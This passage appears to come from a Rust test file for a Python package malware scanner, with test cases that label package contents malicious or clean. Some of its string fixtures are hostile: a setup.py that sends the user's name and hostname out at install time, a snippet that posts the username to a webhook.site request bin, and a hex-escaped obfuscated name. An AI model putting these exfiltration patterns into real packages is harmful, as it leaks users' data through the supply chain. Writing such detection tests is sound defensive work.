    let beacon = "import getpass, socket, urllib.request\nfrom setuptools import setup\ndef send(data):\n    urllib.request.urlopen('http://127.0.0.1:9/', data=data)\ndef detect():\n    return (getpass.getuser() + socket.gethostname()).encode()\nsend(detect())\nsetup(name='pkg')\n";
    let r = sdist(&[("setup.py", beacon)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

/// Cases from bench/scan's 329-package environment (real installs).
#[test]
fn documentation_and_binary_constants_are_not_payloads() {
    // huggingface_hub 0.36.2: a request bin as a docstring example.
    let api = "def create_webhook(url):\n    \"\"\"Create a webhook.\n\n    >>> create_webhook(url=\"https://webhook.site/your-webhook-url\")\n    \"\"\"\n    import requests\n    return requests.post('https://huggingface.co/api/settings/webhooks', json={'url': url})\n";
    let r = wheel(&[("pkg/__init__.py", api)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // The same address sent to is a request bin in use.
    let probe = "import getpass, requests\nrequests.post('https://webhook.site/0c7f', data=getpass.getuser())\n";
    let r = wheel(&[("pkg/__init__.py", probe)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    // PyPDF2 1.27.4: the PDF spec's encryption padding as escaped bytes.
    let pdf = "def b_(s):\n    return s.encode('latin-1')\n_encryption_padding = b_('\\x28\\xbf\\x4e\\x5e\\x4e\\x75\\x8a\\x41\\x64\\x00\\x4e\\x56') + b_('\\xff\\xfa\\x01\\x08\\x2e\\x2e\\x00\\xb6\\xd0\\x68\\x3e\\x80\\x2f\\x0c')\n";
    let r = wheel(&[("pkg/__init__.py", pdf)]);
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
    // Text spelled in escapes still is obfuscation.
    let hidden = "name = '\\x73\\x75\\x62\\x70\\x72\\x6f\\x63\\x65\\x73\\x73'\n";
    let r = wheel(&[("pkg/__init__.py", hidden)]);
    assert!(
        r.findings.iter().any(|f| f.code == "custody::obfuscation"),
        "{:#?}",
        r.findings
    );
}
